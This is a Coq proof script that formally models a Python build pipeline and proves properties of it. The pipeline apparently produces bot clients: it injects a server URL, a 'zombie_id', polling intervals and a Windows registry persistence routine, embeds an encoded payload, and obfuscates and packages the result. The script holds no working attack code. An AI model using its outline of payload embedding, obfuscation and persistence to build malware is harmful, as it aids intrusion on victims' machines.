  makedirs f p = Some f' -> f !! q = Some x -> f' !! q = Some x.
Proof. intros H. apply makedirs_from_spec in H as (Hm & _). apply Hm. Qed.

Lemma makedirs_isdir f p f' : makedirs f p = Some f' -> f' !! p = Some Dir.
Proof. intros H. apply makedirs_from_spec in H as (_ & Hd & _). exact Hd. Qed.

Lemma makedirs_new f p f' q :
  makedirs f p = Some f' -> f !! q = None -> is_Some (f' !! q) ->
  f' !! q = Some Dir /\ q `prefix_of` p.
Proof. intros H. apply makedirs_from_spec in H as (_ & _ & Hn). apply Hn. Qed.

Lemma rmtree_lookup f p q :
  rmtree f p !! q =
  if isdir f p && bool_decide (p `prefix_of` q) then None else f !! q.
Proof.
  unfold rmtree, isdir. destruct (f !! p) as [[c|]|] eqn:Ep; simpl; try reflexivity.
  case_bool_decide as Hpre.
  - apply map_lookup_filter_None. right. intros x _. simpl. tauto.
  - destruct (f !! q) as [x|] eqn:Eq.
    + apply map_lookup_filter_Some. split; [exact Eq|exact Hpre].
    + apply map_lookup_filter_None. left. exact Eq.
Qed.

Lemma remove_Some f p f' :
  remove f p = Some f' -> f' = delete p f.
Proof. unfold remove. destruct (f !! p) as [[c|]|]; congruence. Qed.

(** ** Stepping through stage code *)

Lemma post_bind_any {A B} (m : M A) (k : A -> M B) w (Q : result B -> world -> Prop) :
  (forall a w1, post (k a) w1 Q) -> (forall e w1, Q (Raise e) w1) ->
  post (bind m k) w Q.
Proof. intros Hk He. apply post_bind, post_any. intros [a|e] w1; auto. Qed.

Lemma post_and_then_any (check rest : M bool) w (Q : result bool -> world -> Prop) :
  (forall w1, post rest w1 Q) -> (forall w1, Q (Val false) w1) ->
  (forall e w1, Q (Raise e) w1) ->
  post (and_then check rest) w Q.
Proof. intros Hr Hf He. apply post_and_then, post_any. intros [[|]|e] w1; auto. Qed.

Lemma post_run_pyarmor h args cwd w (Q : result unit -> world -> Prop) :
  (forall o f, pyarmor_obfuscate h args cwd (fs w) = (o, f) ->
     match o with
     | None => Q (Val tt) (emit (Run (PyarmorObfuscate args)) (set_fs f w))
     | Some e => Q (Raise e) (emit (Run (PyarmorObfuscate args)) (set_fs f w))
     end) ->
  post (run_pyarmor h args cwd) w Q.
Proof.
  intros H. unfold post, run_pyarmor.
  destruct (pyarmor_obfuscate h args cwd (fs w)) as [o f] eqn:E.
  specialize (H o f eq_refl). destruct o; exact H.
Qed.

Lemma post_run_pyinstaller h args cwd w (Q : result Z -> world -> Prop) :
  (forall r f, pyinstaller_run h args cwd (fs w) = (r, f) ->
     Q r (emit (Run (PyinstallerBuild args)) (set_fs f w))) ->
  post (run_pyinstaller h args cwd) w Q.
Proof.
  intros H. unfold post, run_pyinstaller.
  destruct (pyinstaller_run h args cwd (fs w)) as [r f] eqn:E.
  specialize (H r f eq_refl). destruct r; exact H.
Qed.

(** One step of forward execution of the computation in the goal. *)
Ltac post_step :=
  lazymatch goal with
  | |- post (ret _) _ _ => apply post_ret
  | |- post (raise _) _ _ => apply post_raise
  | |- post (bind _ _) _ _ => apply post_bind
  | |- post (and_then _ _) _ _ => apply post_and_then
  | |- post (try_except _ _) _ _ => apply post_try_except
  | |- post (try_except_only _ _ _) _ _ => apply post_try_except_only
  | |- post (log _ _) _ _ => apply post_log
  | |- post (enter _) _ _ => apply post_enter
  | |- post (get _) _ _ => apply post_get
  | |- post (update _) _ _ => apply post_update
  | |- post (fs_test _) _ _ => apply post_fs_test
  | |- post (fs_total _) _ _ => apply post_fs_total
  | |- post (fs_update _) _ _ => apply post_fs_update; [intros ? ?|intros ?]
  | |- post (fs_query _) _ _ => apply post_fs_query; [intros ? ?|intros ?]
  | |- post (chdir _) _ _ => apply post_chdir; intros ?
  | |- post (check_output _ _) _ _ => apply post_check_output
  | |- post (run_pyarmor _ _ _) _ _ => apply post_run_pyarmor; intros [?|] ? ?
  | |- post (run_pyinstaller _ _ _) _ _ => apply post_run_pyinstaller; intros [?|?] ? ?
  | |- post (let _ := _ in _) _ _ => cbv zeta
  | |- post (if ?c then _ else _) _ _ => destruct c eqn:?
  | |- post (match ?x with _ => _ end) _ _ => destruct x eqn:?
  | |- match ?x with _ => _ end => destruct x eqn:?
  | |- if ?x then _ else _ => destruct x eqn:?
  end;
  cbv beta iota.

Ltac post_steps := repeat post_step.

(** Skipping a step whose effect does not matter for the goal. *)
Ltac post_skip :=
  lazymatch goal with
  | |- post (bind _ _) _ _ => apply post_bind_any; [intros ? ?|intros ? ?]
  | |- post (and_then _ _) _ _ => apply post_and_then_any; [intros ?|intros ?|intros ? ?]
  | |- post (let _ := _ in _) _ _ => cbv zeta
  end;
  cbv beta iota.

(** ** Names of the outputs *)

Lemma basename_join d name : basename (join d name) = name.
Proof. unfold basename, join. apply last_last. Qed.

Lemma dirname_join d name : dirname (join d name) = d.
Proof. unfold dirname, join. apply removelast_last. Qed.

Lemma _compile_executable_leaves_executable h b w :
  post (_compile_executable h b) w (fun r w' =>
    r = Val true -> exists_ (fs w') (final_executable b) = true).
Proof.
  unfold _compile_executable. do 3 post_step.
  repeat lazymatch goal with
         | |- post (bind (fs_update ?op) _) _ _ =>
             lazymatch op with
             | context [final_executable] => fail
             | _ => post_skip
             end
         | |- post _ _ _ => post_skip
         end.
  all: try (post_steps; discriminate).
  post_steps; try discriminate.
  intros _. simpl. eapply copy2_exists. eassumption.
Qed.

(** ** The metadata record *)

Lemma _generate_metadata_spec h b w :
  post (_generate_metadata h b) w (fun r w' =>
    exists m, r = Val m /\
      ((m = minimal_metadata b /\ fs w' = fs w) \/
       (full_record h b w m /\
        write_file (fs w) (metadata_file b) (json_dump (emitted h) m) = Some (fs w')))).
Proof.
  unfold _generate_metadata.
  post_steps;
    try (eexists; split; [reflexivity|]; left; split; reflexivity).
  all: eexists; split; [reflexivity|]; right; simpl; split; try assumption.
  all: unfold full_record; eexists;
    repeat match goal with H : _ = _ |- _ => rewrite H end; eauto.
Qed.



(** ** Timing constants *)



(** ** The dependency check and the obfuscation tool *)

(** C2, as amended.  When the version query of the obfuscation tool fails,
    the check logs one error and returns failure at once: the trace shows
    the query and the error line and nothing after them, and the
    builder's attributes and the file system are untouched. *)
Theorem pyarmor_query_failure_ends_check h b w e :
  version_lt (python_version h) (3, 6, 0)%nat = false ->
  pyarmor_version h = Some e ->
  _check_dependencies h b w =
    (Val false,
     World (fs w) (use_upx w) (payload_data w)
       (trace w ++ [Enter CheckDependencies; Run PyarmorVersion;
                    Log Error (pyarmor_failure_message e)])).
Proof.
  intros Hv Hp.
  unfold _check_dependencies, bind, enter, try_except, and_then, bind.
  rewrite Hv. unfold ret at 1. unfold try_except_only, bind, check_output.
  rewrite Hp. unfold pyarmor_failure_message, emit, log, ret. simpl.
  destruct (not_installed e); unfold emit; simpl; rewrite <- !app_assoc; reflexivity.
Qed.

Lemma pyarmor_query_failure_ends_check_witness :
  _check_dependencies host_without_pyarmor linux_builder upx_world =
    (Val false,
     World demo_fs true None
       [Enter CheckDependencies; Run PyarmorVersion;
        Log Error "PyArmor not found. Install with: pip install pyarmor"]).
Proof.
  apply (pyarmor_query_failure_ends_check host_without_pyarmor linux_builder upx_world
           FileNotFoundError); reflexivity.
Defined.

(** C2, the claim as stated, fails: on a host without the obfuscation tool
    but with the packaging tool, and with UPX requested, the check returns
    failure without querying the packaging tool or UPX, and [use_upx]
    stays set. *)
Lemma remaining_checks_not_performed :
  let '(r, w') := _check_dependencies host_without_pyarmor linux_builder upx_world in
  r = Val false /\
  pyinstaller_version host_without_pyarmor = None /\
  (Run PyinstallerVersion ∉ trace w') /\
  (Run UpxVersion ∉ trace w') /\
  use_upx w' = true.
Proof.
  vm_compute. repeat split; try reflexivity.
  - intros H. repeat (apply elem_of_cons in H as [H|H]; [discriminate|]).
    apply elem_of_nil in H. exact H.
  - intros H. repeat (apply elem_of_cons in H as [H|H]; [discriminate|]).
    apply elem_of_nil in H. exact H.
Qed.

(** ** The minimal record *)

Lemma minimal_metadata_keys b :
  minimal_metadata b !! "zombie_id" = None /\
  minimal_metadata b !! "server_url" = None /\
  minimal_metadata b !! "payload" = None.
Proof.
  unfold minimal_metadata.
  repeat split; rewrite !lookup_insert_ne by discriminate; apply lookup_empty.
Qed.

(** The build of [windows_builder] succeeds with the minimal record: the
    compilation stage clears the directory that holds the payload script,
    so that its size can no longer be read. *)
Lemma stray_payload_build :
  (build windows_host windows_builder windows_world).1
    = Val (true, Some (minimal_metadata windows_builder)).
Proof. vm_compute. reflexivity. Qed.

Lemma blocked_metadata_build :
  (build linux_host linux_builder blocked_world).1
    = Val (true, Some (minimal_metadata linux_builder)).
Proof. vm_compute. reflexivity. Qed.

Lemma summary_of_minimal_record b :
  print_summary (true, Some (minimal_metadata b)) = Raise OtherError.
Proof.
  unfold print_summary, summary_keys. cbn [read_keys]. unfold subscript.
  assert (Hp : minimal_metadata b !! "platform" = Some (JStr (platform b))).
  { unfold minimal_metadata. rewrite lookup_insert_ne by discriminate.
    apply lookup_insert_eq. }
  assert (Hb : minimal_metadata b !! "build_id" = Some (JStr (build_id b))).
  { unfold minimal_metadata. rewrite !lookup_insert_ne by discriminate.
    apply lookup_insert_eq. }
  destruct (minimal_metadata_keys b) as (Hz & _).
  rewrite Hp, Hb, Hz. reflexivity.
Qed.

(** C10, at the failing inputs.  The minimal record has neither
    "zombie_id" nor "server_url", and the summary of the entry point
    raises on it, for every builder.  Successful builds do return it: on
    a current interpreter when the metadata file cannot be written, and
    on windows under Python 3.6 when the payload script lies in the
    compilation directory, which the compilation stage clears. *)
Theorem summary_fails_on_minimal_record :
  (forall b,
     minimal_metadata b !! "zombie_id" = None /\
     minimal_metadata b !! "server_url" = None /\
     print_summary (true, Some (minimal_metadata b)) = Raise OtherError) /\
  (build linux_host linux_builder blocked_world).1
    = Val (true, Some (minimal_metadata linux_builder)) /\
  (build windows_host windows_builder windows_world).1
    = Val (true, Some (minimal_metadata windows_builder)).
Proof.
  split; [|split; [exact blocked_metadata_build|exact stray_payload_build]].
  intros b. destruct (minimal_metadata_keys b) as (Hz & Hs & _).
  split; [exact Hz|]. split; [exact Hs|apply summary_of_minimal_record].
Qed.


(** ** Facts about texts *)

Lemma append_cons c s t : String c s +:+ t = String c (s +:+ t).
Proof. reflexivity. Qed.

Lemma append_nil_l t : EmptyString +:+ t = t.
Proof. reflexivity. Qed.

Lemma append_nil_r s : s +:+ EmptyString = s.
Proof. induction s as [|c s IH]; [reflexivity|]. rewrite append_cons, IH. reflexivity. Qed.

Lemma append_assoc s t u : (s +:+ t) +:+ u = s +:+ (t +:+ u).
Proof.
  induction s as [|c s IH]; [reflexivity|]. rewrite !append_cons, IH. reflexivity.
Qed.


(** ** Replacement templates *)

Lemma parse_from_plain_prefix strict n gi s1 s2 :
  no_backslash s1 = true ->
  parse_from strict n gi TPlain (s1 +:+ s2) =
  option_map (app (literal_pieces s1)) (parse_from strict n gi TPlain s2).
Proof.
  induction s1 as [|c s1 IH]; intros H.
  - rewrite append_nil_l.
    destruct (parse_from strict n gi TPlain s2); reflexivity.
  - rewrite append_cons. simpl in *.
    apply andb_prop in H as [Hc H]. unfold plain_step.
    destruct (Ascii.eqb c backslash); [discriminate|].
    rewrite IH by exact H.
    destruct (parse_from strict n gi TPlain s2); reflexivity.
Qed.

Lemma expand_literal_pieces s groups : expand (literal_pieces s) groups = s.
Proof. induction s as [|c s IH]; simpl; congruence. Qed.

Lemma parse_template_plain strict n gi s :
  no_backslash s = true -> parse_template strict n gi s = Some (literal_pieces s).
Proof.
  intros H. unfold parse_template.
  rewrite <- (append_nil_r s) at 1.
  rewrite parse_from_plain_prefix by exact H. simpl. rewrite app_nil_r. reflexivity.
Qed.

(** The replacement built around the registry key path is rejected by a
    strict template parser: its first escape is a backslash followed by
    the letter M. *)
Lemma windows_template_rejected n gi head rest :
  no_backslash head = true ->
  parse_template true n gi (head +:+ windows_key_path +:+ rest) = None.
Proof.
  intros H. unfold parse_template. rewrite parse_from_plain_prefix by exact H.
  unfold windows_key_path. simpl. reflexivity.
Qed.

Lemma windows_template_accepted_36 :
  parse_template false 0 (fun _ => None) windows_key_path
  = Some (literal_pieces windows_key_path).
Proof. reflexivity. Qed.

Lemma customize_fails_on_windows h b data s :
  re_strict h = true -> platform b = "windows" ->
  no_backslash (windows_head (emitted h)) = true ->
  customize h b data s = None.
Proof.
  intros Hs Hp Hh. unfold customize.
  destruct (re_sub_literal h server_pattern _ s) as [s1|]; [simpl|reflexivity].
  destruct (re_sub_literal h zombie_id_pattern _ s1) as [s2|]; [simpl|reflexivity].
  destruct (re_sub_literal h check_in_pattern _ s2) as [s3|]; [simpl|reflexivity].
  destruct (re_sub_literal h poll_pattern _ s3) as [s4|]; [simpl|reflexivity].
  rewrite Hp. simpl.
  unfold re_sub_literal at 1, windows_persistence_code. rewrite Hs.
  rewrite !append_assoc.
  rewrite windows_template_rejected by exact Hh. reflexivity.
Qed.

(** On windows, on Python 3.7 or later, source customization fails
    whatever the staged source is: the template of the injected routine
    does not compile.  Nothing is written. *)
Lemma _modify_source_code_fails_on_windows h b w :
  re_strict h = true -> platform b = "windows" ->
  no_backslash (windows_head (emitted h)) = true ->
  exists w', _modify_source_code h b w = (Val false, w') /\ fs w' = fs w.
Proof.
  intros Hs Hp Hh.
  assert (H : post (_modify_source_code h b) w (fun r w' => r = Val false /\ fs w' = fs w)).
  { unfold _modify_source_code. post_steps; try (split; reflexivity).
    rewrite customize_fails_on_windows in * by assumption. discriminate. }
  unfold post in H. destruct (_modify_source_code h b w) as [r w'].
  simpl in H. destruct H as [-> H]. eauto.
Qed.

Lemma replace_all_absent pat repl s : occurs pat s = false -> replace_all pat repl s = s.
Proof.
  unfold replace_all. induction s as [|c s IH]; [reflexivity|].
  cbn [occurs replace_from]. intros H. apply orb_false_iff in H as [Hp Ho].
  rewrite Hp, (IH Ho). reflexivity.
Qed.

Lemma re_sub_literal_absent h pat repl s s' :
  occurs pat s = false -> re_sub_literal h pat repl s = Some s' -> s' = s.
Proof.
  unfold re_sub_literal. intros Ho.
  destruct (parse_template _ _ _ repl); [|discriminate].
  intros [= <-]. apply replace_all_absent, Ho.
Qed.

Lemma sub_import_line_absent ps s : has_import_line s = false -> sub_import_line ps s = s.
Proof.
  unfold has_import_line, sub_import_line.
  destruct (import_match [] (split_lines s)) as [[[? ?] ?]|]; [discriminate|reflexivity].
Qed.

Lemma customize_absent h b data s s' :
  patterns_absent b data s = true -> customize h b data s = Some s' -> s' = s.
Proof.
  unfold patterns_absent. intros H.
  repeat (apply andb_prop in H as [H ?]).
  repeat match goal with
         | H : negb _ = true |- _ => apply negb_true_iff in H
         end.
  unfold customize.
  destruct (re_sub_literal h server_pattern _ s) as [s1|] eqn:E1; [|discriminate].
  apply re_sub_literal_absent in E1; [subst s1|assumption]. cbn [mbind option_bind].
  destruct (re_sub_literal h zombie_id_pattern _ s) as [s1|] eqn:E2; [|discriminate].
  apply re_sub_literal_absent in E2; [subst s1|assumption]. cbn [mbind option_bind].
  destruct (re_sub_literal h check_in_pattern _ s) as [s1|] eqn:E3; [|discriminate].
  apply re_sub_literal_absent in E3; [subst s1|assumption]. cbn [mbind option_bind].
  destruct (re_sub_literal h poll_pattern _ s) as [s1|] eqn:E4; [|discriminate].
  apply re_sub_literal_absent in E4; [subst s1|assumption]. cbn [mbind option_bind].
  destruct (String.eqb (platform b) "windows") eqn:Ew.
  - destruct (re_sub_literal h main_pattern _ s) as [s1|] eqn:E5; [|discriminate].
    apply re_sub_literal_absent in E5; [subst s1|assumption]. cbn [mbind option_bind].
    destruct data as [[|c d]|]; try congruence.
    unfold re_sub_import. destruct (parse_template _ _ _ import_template); [|discriminate].
    intros [= <-]. apply sub_import_line_absent.
    match goal with H : _ || _ = true |- _ => simpl in H; apply negb_true_iff in H; exact H end.
  - destruct (String.eqb (platform b) "linux" || String.eqb (platform b) "macos").
    + intros E5. apply re_sub_literal_absent in E5; assumption.
    + congruence.
Qed.

Lemma _modify_source_code_writes h b w s s' :
  read_file (fs w) (join (prep_dir b) SOURCE_FILE) = Some s ->
  customize h b (payload_data w) s = Some s' ->
  is_Some (write_file (fs w) (modified_source b) s') ->
  exists w', _modify_source_code h b w = (Val true, w') /\
             read_file (fs w') (modified_source b) = Some s'.
Proof.
  intros Hr Hc [f' Hw].
  assert (H : post (_modify_source_code h b) w (fun r w' =>
            r = Val true /\ read_file (fs w') (modified_source b) = Some s')).
  { unfold _modify_source_code. post_steps; simpl in *; simplify_eq; try congruence.
    split; [reflexivity|]. unfold read_file.
    erewrite write_file_lookup by eassumption. reflexivity. }
  unfold post in H. destruct (_modify_source_code h b w) as [r w'].
  simpl in H. destruct H as [-> H]. eauto.
Qed.

(** C8.  For a staged source with none of the expected texts: whenever
    the replacement templates compile, the customizer leaves the text as
    it is, and the stage writes it to the build-identifier-named file and
    returns [True]; on windows, from Python 3.7 on, the template of the
    injected routine does not compile, and the stage returns [False] and
    writes nothing. *)
Theorem customization_without_patterns h b w s :
  read_file (fs w) (join (prep_dir b) SOURCE_FILE) = Some s ->
  patterns_absent b (payload_data w) s = true ->
  (forall s', customize h b (payload_data w) s = Some s' ->
     s' = s /\
     (is_Some (write_file (fs w) (modified_source b) s) ->
      exists w', _modify_source_code h b w = (Val true, w') /\
                 read_file (fs w') (modified_source b) = Some s)) /\
  (re_strict h = true -> platform b = "windows" ->
   no_backslash (windows_head (emitted h)) = true ->
   customize h b (payload_data w) s = None /\
   exists w', _modify_source_code h b w = (Val false, w') /\ fs w' = fs w).
Proof.
  intros Hr Ha. split.
  - intros s' Hc. pose proof (customize_absent _ _ _ _ _ Ha Hc) as ->.
    split; [reflexivity|]. intros Hw.
    exact (_modify_source_code_writes h b w s s Hr Hc Hw).
  - intros Hs Hp Hh. split; [apply customize_fails_on_windows; assumption|].
    apply _modify_source_code_fails_on_windows; assumption.
Qed.

Lemma customization_without_patterns_witness :
  (exists w', _modify_source_code linux_host linux_builder staged_world = (Val true, w') /\
              read_file (fs w') (modified_source linux_builder) = Some plain_source) /\
  (exists w', _modify_source_code current_windows_host windows_builder_plain staged_world
              = (Val false, w') /\ fs w' = fs staged_world).
Proof.
  split.
  - apply (proj1 (customization_without_patterns linux_host linux_builder staged_world
                    plain_source eq_refl eq_refl) plain_source eq_refl).
    apply is_some_true. vm_compute. reflexivity.
  - apply (proj2 (customization_without_patterns current_windows_host windows_builder_plain
                    staged_world plain_source eq_refl eq_refl)); reflexivity.
Defined.

(** ** The codecs

    Decoding undoes encoding, for base64 and for base85.  The arithmetic
    is by quotient and remainder: each division by a constant is replaced
    by its defining equation before [lia] runs. *)










(** Induction by groups of three characters. *)
Lemma string_ind3 (P : string -> Prop) :
  P EmptyString -> (forall a, P (String a EmptyString)) -> (forall a b, P (String a (String b EmptyString))) ->
  (forall a b c rest, P rest -> P (String a (String b (String c rest)))) ->
  forall s, P s.
Proof.
  intros H0 H1 H2 H3.
  assert (H : forall n s, (String.length s <= n)%nat -> P s).
  { induction n as [|n IH]; intros s Hs.
    - destruct s; [exact H0|simpl in Hs; lia].
    - destruct s as [|a [|b [|c rest]]]; auto.
      apply H3, IH. simpl in Hs. lia. }
  intros s. apply (H (String.length s)). lia.
Qed.




(** Induction by groups of four characters. *)
Lemma string_ind4 (P : string -> Prop) :
  P EmptyString -> (forall a, P (String a EmptyString)) -> (forall a b, P (String a (String b EmptyString))) ->
  (forall a b c, P (String a (String b (String c EmptyString)))) ->
  (forall a b c d rest, P rest -> P (String a (String b (String c (String d rest))))) ->
  forall s, P s.
Proof.
  intros H0 H1 H2 H3 H4.
  assert (H : forall n s, (String.length s <= n)%nat -> P s).
  { induction n as [|n IH]; intros s Hs.
    - destruct s; [exact H0|simpl in Hs; lia].
    - destruct s as [|a [|b [|c [|d rest]]]]; auto.
      apply H4, IH. simpl in Hs. lia. }
  intros s. apply (H (String.length s)). lia.
Qed.





(** ** The dependency check reads, and only reads *)

#[global] Instance same_fs_preorder : PreOrder same_fs.
Proof. split; unfold same_fs; [intros w|intros w1 w2 w3]; congruence. Qed.

Lemma _check_dependencies_reads_only h b : keeps same_fs (_check_dependencies h b).
Proof.
  unfold _check_dependencies.
  repeat first
    [ progress keeps_structure
    | apply keeps_step; intros w; unfold same_fs, enter, log, check_output;
      try destruct (pyarmor_version h); try destruct (pyinstaller_version h);
      try destruct (upx_version h); reflexivity ].
Qed.


Lemma _check_dependencies_loads_payload h b w p content :
  payload_path b = Some p -> platform b = "windows" ->
  other_checks_pass h b w = true ->
  read_file (fs w) p = Some content ->
  post (_check_dependencies h b) w (fun r w' =>
    r = Val true /\ payload_data w' = Some (b64encode content)).
Proof.
  intros Hp Hw Hc Hr. apply String.eqb_eq in Hw.
  unfold other_checks_pass in Hc.
  repeat match goal with
         | H : _ && _ = true |- _ => apply andb_prop in H as [? ?]
         end.
  assert (Hex : exists_ (fs w) p = true).
  { unfold read_file in Hr. unfold exists_. destruct (fs w !! p); [reflexivity|discriminate]. }
  unfold _check_dependencies. rewrite Hp, Hw.
  destruct (version_lt (python_version h) (3, 6, 0)%nat); [discriminate|].
  destruct (pyarmor_version h); [discriminate|].
  destruct (pyinstaller_version h); [discriminate|].
  post_steps; simpl in *;
    repeat match goal with
           | H : ?x = _, H' : ?x = _ |- _ => rewrite H in H'
           | H : negb ?x || _ = true, H' : ?x = true |- _ => rewrite H' in H; simpl in H
           | H : match ?x with _ => _ end = true, H' : ?x = _ |- _ => rewrite H' in H
           end;
    try discriminate; try congruence.
  all: split; [reflexivity|]; simpl; congruence.
Qed.



(** ** Paths of the workspace *)

Lemma prefix_join d name : d `prefix_of` join d name.
Proof. unfold join. apply prefix_app_r. reflexivity. Qed.

Lemma prefix_join_trans q d name : q `prefix_of` d -> q `prefix_of` join d name.
Proof. intros H. etransitivity; [exact H|apply prefix_join]. Qed.

Lemma scratch_join b d name : scratch b d -> scratch b (join d name).
Proof. unfold scratch. intros [H|H]; [left|right]; apply prefix_join_trans, H. Qed.

Lemma scratch_build_dir b : scratch b (build_dir b).
Proof. left. reflexivity. Qed.

Lemma scratch_output_dir b : scratch b (output_dir b).
Proof. right. reflexivity. Qed.


Lemma scratch_copy_target b f src dst : scratch b dst -> scratch b (copy_target f src dst).
Proof.
  unfold copy_target. intros H. destruct (isdir f dst); [apply scratch_join|]; exact H.
Qed.

Create HintDb scratch.
#[global] Hint Resolve scratch_join scratch_build_dir scratch_output_dir scratch_copy_target
  : scratch.
#[global] Hint Unfold prep_dir obfuscate_dir compile_dir pyarmor_work_dir modified_source
  payload_module obfuscated_file final_executable metadata_file : scratch.

(** ** What a build leaves alone

    [persists T w w']: every entry outside the region [T] that exists in
    [w] is still there, unchanged, in [w']. *)

#[global] Instance persists_preorder T : PreOrder (persists T).
Proof. split; unfold persists; [intros w|intros w1 w2 w3]; auto. Qed.

Section Persists.
Variable T : path -> Prop.
Hypothesis T_upward : forall d p, T d -> d `prefix_of` p -> T p.


Lemma persists_quiet {A} (m : M A) : (forall w, fs (m w).2 = fs w) -> keeps (persists T) m.
Proof. intros H. apply keeps_step. intros w p x _. rewrite H. auto. Qed.




Lemma persists_rmtree q : T q -> keeps (persists T) (fs_total (fun f => rmtree f q)).
Proof.
  intros Hq. apply keeps_step. intros w p x Hp Hx. simpl. rewrite rmtree_lookup.
  case_bool_decide as Hpre; [|rewrite andb_false_r; exact Hx].
  exfalso. apply Hp. eapply T_upward; eassumption.
Qed.


End Persists.













(** ** A successful build, stage by stage *)

Lemma succeeded_run h b w :
  succeeded (build h b w).1 = true ->
  exists m, build h b w = (Val (true, Some m), (build h b w).2).
Proof.
  destruct (build h b w) as [[[[|] [m|]]|e] w']; simpl; try discriminate. eauto.
Qed.


Lemma build_success h b w m w' :
  build h b w = (Val (true, Some m), w') ->
  exists w1 w2 w3 w4 w5 w6 w7,
    _check_dependencies h b (announced w) = (Val true, w1) /\
    _prepare_build_environment h b w1 = (Val true, w2) /\
    _modify_source_code h b w2 = (Val true, w3) /\
    _obfuscate_code h b w3 = (Val true, w4) /\
    _compile_executable h b w4 = (Val true, w5) /\
    _generate_metadata h b w5 = (Val m, w6) /\
    _clean_up h b w6 = (Val true, w7) /\
    fs w' = fs w7.
Proof.
  unfold build, bind, log, announced.
  destruct (_check_dependencies h b _) as [[[|]|e1] w1] eqn:E1; simpl; try discriminate.
  destruct (_prepare_build_environment h b w1) as [[[|]|e2] w2] eqn:E2;
    simpl; try discriminate.
  destruct (_modify_source_code h b w2) as [[[|]|e3] w3] eqn:E3; simpl; try discriminate.
  destruct (_obfuscate_code h b w3) as [[[|]|e4] w4] eqn:E4; simpl; try discriminate.
  destruct (_compile_executable h b w4) as [[[|]|e5] w5] eqn:E5; simpl; try discriminate.
  destruct (_generate_metadata h b w5) as [[m'|e6] w6] eqn:E6; simpl; try discriminate.
  destruct (_clean_up_true h b w6) as [w7 E7]. rewrite E7. simpl.
  intros [= <- <-]. exists w1, w2, w3, w4, w5, w6, w7. repeat split; assumption.
Qed.

Lemma keeps_run {A} R (m : M A) w r w' : keeps R m -> m w = (r, w') -> R w w'.
Proof. intros H E. exact (post_run _ _ _ _ _ (H w) E). Qed.


Lemma full_metadata_no_payload h b zid : full_metadata h b zid !! "payload" = None.
Proof.
  unfold full_metadata. rewrite !lookup_insert_ne by discriminate. apply lookup_empty.
Qed.


Lemma demo_tools_confined version exe :
  tools_confined (demo_host_with version exe pyarmor_rejects).
Proof.
  split; intros args cwd f p Hp; simpl; [reflexivity|].
  unfold pyinstaller_works. simpl.
  assert (Hdist : below cwd (join cwd "dist")).
  { split; [apply prefix_join|apply join_ne_self]. }
  assert (Hexe : below cwd (join (join cwd "dist") exe)).
  { split; [apply prefix_join_trans, prefix_join|].
    unfold join. rewrite <- app_assoc. intros E.
    apply (f_equal length) in E. rewrite length_app in E. simpl in E. lia. }
  rewrite !lookup_insert_ne; [reflexivity| |]; intros <-; auto.
Qed.



(** ** Directories of the workspace *)

Lemma join_not_prefix_sibling d a c : a ≠ c -> ¬ join d a `prefix_of` join d c.
Proof.
  unfold join. intros Hne [k Hk]. rewrite <- app_assoc in Hk.
  apply app_inv_head in Hk. simpl in Hk. congruence.
Qed.

Lemma join_not_prefix_parent d a : ¬ join d a `prefix_of` d.
Proof.
  unfold join. intros [k Hk]. apply (f_equal length) in Hk.
  rewrite !length_app in Hk. simpl in Hk. lia.
Qed.

Lemma not_below_self d : ¬ below d d.
Proof. intros [_ H]. congruence. Qed.

Lemma not_below_parent d a : ¬ below (join d a) d.
Proof. intros [H _]. exact (join_not_prefix_parent _ _ H). Qed.

Lemma not_below_sibling d a c : a ≠ c -> ¬ below (join d a) (join d c).
Proof. intros Hne [H _]. exact (join_not_prefix_sibling _ _ _ Hne H). Qed.

#[global] Instance dirs_stay_preorder D : PreOrder (dirs_stay D).
Proof. split; unfold dirs_stay; [intros w|intros w1 w2 w3]; auto. Qed.

Section DirsStay.
Variable D : path -> Prop.

Lemma dirs_stay_quiet {A} (m : M A) : (forall w, fs (m w).2 = fs w) -> keeps (dirs_stay D) m.
Proof. intros H. apply keeps_step. intros w p _. rewrite H. auto. Qed.

Lemma dirs_stay_makedirs q : keeps (dirs_stay D) (fs_update (fun f => makedirs f q)).
Proof.
  apply keeps_fs_update; [exact _|]. intros w f' H p _. simpl. eapply makedirs_keeps, H.
Qed.

Lemma dirs_stay_write q c : keeps (dirs_stay D) (fs_update (fun f => write_file f q c)).
Proof.
  apply keeps_fs_update; [exact _|]. intros w f' H p _. simpl. eapply write_file_dir, H.
Qed.

Lemma dirs_stay_copy2 src dst : keeps (dirs_stay D) (fs_update (fun f => copy2 f src dst)).
Proof.
  apply keeps_fs_update; [exact _|]. intros w f' H p _. simpl. eapply copy2_dir, H.
Qed.

Lemma dirs_stay_remove q : keeps (dirs_stay D) (fs_update (fun f => remove f q)).
Proof.
  apply keeps_fs_update; [exact _|]. intros w f' H p _ Hp. simpl.
  unfold remove in H. destruct (fs w !! q) as [[c|]|] eqn:Eq; try discriminate.
  injection H as <-. rewrite lookup_delete_ne; [exact Hp|]. intros ->. congruence.
Qed.

Lemma dirs_stay_rmtree q :
  (forall p, D p -> ¬ q `prefix_of` p) ->
  keeps (dirs_stay D) (fs_total (fun f => rmtree f q)).
Proof.
  intros Hq. apply keeps_step. intros w p Hp Hx. simpl. rewrite rmtree_lookup.
  case_bool_decide as Hpre; [|rewrite andb_false_r; exact Hx].
  exfalso. exact (Hq p Hp Hpre).
Qed.

Lemma dirs_stay_run_pyarmor h args cwd :
  tools_confined h -> (forall p, D p -> ¬ below cwd p) ->
  keeps (dirs_stay D) (run_pyarmor h args cwd).
Proof.
  intros [Hc _] Hcwd. apply keeps_step. intros w p Hp Hx. unfold run_pyarmor.
  specialize (Hc args cwd (fs w) p (Hcwd p Hp)).
  destruct (pyarmor_obfuscate h args cwd (fs w)) as [[e|] f]; simpl in *; congruence.
Qed.

Lemma dirs_stay_run_pyinstaller h args cwd :
  tools_confined h -> (forall p, D p -> ¬ below cwd p) ->
  keeps (dirs_stay D) (run_pyinstaller h args cwd).
Proof.
  intros [_ Hc] Hcwd. apply keeps_step. intros w p Hp Hx. unfold run_pyinstaller.
  specialize (Hc args cwd (fs w) p (Hcwd p Hp)).
  destruct (pyinstaller_run h args cwd (fs w)) as [[rc|e] f]; simpl in *; congruence.
Qed.
End DirsStay.

(** The steps of a stage that keep directories wherever they are; [side]
    settles the steps that depend on the place. *)
Ltac dirs_stay_with side :=
  repeat first
    [ progress keeps_structure
    | apply dirs_stay_makedirs
    | apply dirs_stay_write
    | apply dirs_stay_copy2
    | apply dirs_stay_remove
    | apply keeps_check_required; [exact _|intros ? ?]
    | apply dirs_stay_quiet; intros ?; reflexivity
    | side ].

